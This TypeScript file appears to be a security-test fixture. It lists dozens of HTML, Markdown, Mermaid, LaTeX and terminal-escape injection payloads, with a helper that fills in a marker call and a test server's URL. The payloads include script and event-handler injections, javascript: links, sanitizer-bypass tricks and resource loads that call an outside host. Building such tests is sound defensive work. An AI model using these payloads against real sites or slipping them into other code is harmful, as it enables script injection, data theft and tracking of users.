/**
 * Texts that run code or call home when a page takes them for more than text. `RUN` stands for the code to run, `OUT`
 * for an address elsewhere.
 */

const HTML = [
  '<script>RUN</script>',
  '<img src=x onerror=RUN>',
  '<img/src=x/onerror=RUN>',
  '<img src="OUT">',
  '<img srcset="OUT 1x">',
  '<svg onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<details open ontoggle=RUN><summary>x</summary></details>',
  '<input autofocus onfocus=RUN>',
  '<video><source onerror=RUN></video>',
  '<audio src="OUT" onerror=RUN>',
  '<video poster="OUT">',
  '<object data="OUT"></object>',
  '<embed src="OUT">',
  '<link rel=stylesheet href="OUT">',
  '<style>@import "OUT";</style>',
  '<div style="background:url(OUT)">x</div>',
  '<style>@keyframes a{}</style><b style="animation-name:a" onanimationstart=RUN>x</b>',
  '<meta http-equiv=refresh content="0;url=OUT">',
  '<base href="OUT/">',
  '<form action="javascript:RUN"><button autofocus>x</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '"><img src=x onerror=RUN>',
  "' onmouseover=RUN x='",
  '" onmouseover=RUN autofocus onfocus=RUN x="',
  '</pre></code></div></details><script>RUN</script>',
  '</textarea></title></style><svg/onload=RUN>',
  '<!--><img src=x onerror=RUN>-->',
  '<a href="javascript:RUN">x</a>',
  `<button data-commandlinker-command="help:open" data-commandlinker-args='{"url":"OUT"}'>x</button>`,
  '&lt;img src=x onerror=RUN&gt;',
  '\\u003cimg src=x onerror=RUN\\u003e',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><image href="OUT"/><script>RUN</script></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="OUT" onerror="RUN"/></foreignObject></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:RUN"><text y="20">x</text></a></svg>',
  'javascript:/*--></title></style></textarea></script><svg/onload=RUN//>',
  '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=RUN>">',
  '<picture><source srcset="OUT"><img loading=lazy src="OUT"></picture>',
  '<svg><use href="OUT#x"/><feImage href="OUT"/><style>@import "OUT"</style></svg>',
  '<link rel=preload as=image href="OUT"><link rel=dns-prefetch href="OUT">',
  '<script src="OUT"></script><script type=module>import "OUT"</script>',
  '<input type=image src="OUT"><table background="OUT"><tr><td background="OUT">x',
  '<template shadowrootmode=open><img src=x onerror=RUN></template>',
  '<a href="https://x" ping="OUT">x</a><math href="javascript:RUN">x</math>',
  '<p style="content:url(OUT);list-style:url(OUT)">x<p style="--a:url(OUT)">x',
  '<video src="OUT" autoplay><track src="OUT" default></video>',
  '<x-y tabindex=1 autofocus onfocus=RUN onpointerrawupdate=RUN>x</x-y>',
]

const MARKDOWN = [
  '[x](javascript:RUN)',
  '[x](JaVaScRiPt&colon;RUN)',
  '[x](java&#9;script:RUN)',
  '[x](<javascript:RUN>)',
  '[x](data:text/html,<script>RUN</script>)',
  '[x](vbscript:RUN)',
  '[x](x "onmouseover="RUN")',
  '![x](OUT)',
  '![x](x"onerror="RUN)',
  '[x]: OUT\n\n![x]',
  '[x]: javascript:RUN\n\n[x]',
  '<javascript:RUN>',
  '[![x](OUT)](javascript:RUN)',
  '```mermaid\ngraph TD\nA["<img src=x onerror=RUN>"]\nclick A "javascript:RUN"\n```',
  '```html\n<script>RUN</script>\n```\n<img src=x onerror=RUN>',
  '```\n<script>RUN</script>',
  '~~~ "><img src=x onerror=RUN>\nx\n~~~',
  '`a\n\n<img src=x onerror=RUN>`',
  '`` ` <img src=x onerror=RUN> ` ``<img src=x onerror=RUN>',
  '- ```\n<img src=x onerror=RUN>\n  ```',
  '> ~~~\n<img src=x onerror=RUN>',
  '| a |\n|---|\n| <img src=x onerror=RUN> |',
  '$\\href{javascript:RUN}{x}$',
  '$$\\require{html}\\style{background:url(OUT)}{x}$$',
  '$<img src=x onerror=RUN>$',
  '[x](https://x/$" onmouseover=RUN x="$)',
  '\\begin{x}<img src=x onerror=RUN>\\end{x}',
  '# <svg onload=RUN>\n\n1. <svg onload=RUN>',
  '\\<img src=x onerror=RUN>\\\\<img src=x onerror=RUN>',
  '[x](java\tscript:RUN) [x](java\nscript:RUN) [x](\x01javascript:RUN)',
  '[x](&#106;avascript:RUN) [x](\\javascript:RUN) [x](javascript&#58;RUN)',
  '[x][1] [2]\n\n[1]: <javascript:RUN>\n[2]: java&#x09;script:RUN',
  '[x]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\n\n[x]',
  '![x][y] ![y][] ![y]\n\n[y]: OUT "t"\n[Y]: <OUT>',
  '![x](<OUT>) ![x](OUT "t") [![a](OUT)](https://x) ![x\\](](OUT)',
  '![x]\n(OUT) ![a]( OUT ) ![a[b]](OUT) ![`x`](OUT) ![*x*](OUT)',
  '<OUT> <https://x/"onmouseover=RUN> www.x.com/"onmouseover=RUN a@x.com"onmouseover=RUN',
  'x[^1]\n\n[^1]: <img src=x onerror=RUN>\n    ![x](OUT)',
  '$\\url{javascript:RUN}$ $\\includegraphics{OUT}$ $\\href{data:text/html,<script>RUN</script>}{x}$',
  '$$\\unicode{<img src=x onerror=RUN>}$$ $\\class{x" onmouseover="RUN}{y}$ $\\cssId{a" onclick="RUN}{y}$',
  '\\(\\href{javascript:RUN}{x}\\) \\[\\style{background:url(OUT)}{x}\\]',
  '$\\text{<img src=x onerror=RUN>}$ $\\htmlData{a=b" onclick="RUN}{x}$ $\\htmlStyle{background:url(OUT)}{x}$',
  '```mermaid\n%%{init: {"securityLevel":"loose","themeCSS":"@import url(OUT);"}}%%\nflowchart LR\nA["<img src=OUT onerror=RUN>"]\n```',
  '```mermaid\nsequenceDiagram\nA->>B: <img src=x onerror=RUN>\nlink A: x @ javascript:RUN\n```',
  '```mermaid\nflowchart TD\nA-->B\nclick A call RUN\nclick B href "javascript:RUN" _self\nC@{ img: "OUT", label: "x" }\n```',
  '~~~mermaid\npie title <img src=x onerror=RUN>\n"<img src=OUT>" : 1\n~~~',
  '```latex\n\\href{javascript:RUN}{x}\n```\n```svg\n<svg onload=RUN>\n```',
  '    <img src=x onerror=RUN>\n\n> <img src=x onerror=RUN>\n\n* [ ] <img src=x onerror=RUN>',
  '| a | ![x](OUT) |\n|---|---|\n| [x](javascript:RUN) | `|` <img src=x onerror=RUN> |',
  '<!-- --!> <img src=x onerror=RUN> -->\n<![CDATA[ <img src=x onerror=RUN> ]]>\n<?x <img src=x onerror=RUN> ?>',
]

const TERMINAL = [
  '\x1b]8;;javascript:RUN\x07x\x1b]8;;\x07',
  '\x1b[31m<img src=x onerror=RUN>\x1b[0m',
  '\x1b[38;5;1"onmouseover=RUN;m<b>x',
  'https://x/"onmouseover="RUN',
  'https://x/<img/src=x/onerror=RUN>',
  '\x1b]8;;OUT\x1b\\x\x1b]8;;\x1b\\ \x1b]8;;data:text/html,<script>RUN</script>\x07x\x1b]8;;\x07',
  '\x1b]1337;File=inline=1:PHN2ZyBvbmxvYWQ9UlVOPg==\x07\x1b]0;<img src=x onerror=RUN>\x07\x1bP+q<img src=OUT>\x1b\\',
  '\x9b31m<img src=x onerror=RUN>\x9bm javascript:RUN data:text/html,<script>RUN</script>',
  '\x1b[38;2;1;2;3;"><img src=x onerror=RUN>m\x1b[48;5;url(OUT)m x',
]

/** All payloads. */
export const PAYLOADS: readonly string[] = [...HTML, ...MARKDOWN, ...TERMINAL]

/**
 * Makes the payloads of one way into the page.
 *
 * @param route - Number of the way; what runs says `route * 1000 + index of the payload`.
 * @param origin - Origin of the hostile server.
 */
export function payloadsFor(route: number, origin: string): string[] {
  return PAYLOADS.map((payload, index) => {
    const id = route * 1000 + index
    return payload.replaceAll('RUN', `pwned(${id})`).replaceAll('OUT', `${origin}/out/${id}`)
  })
}
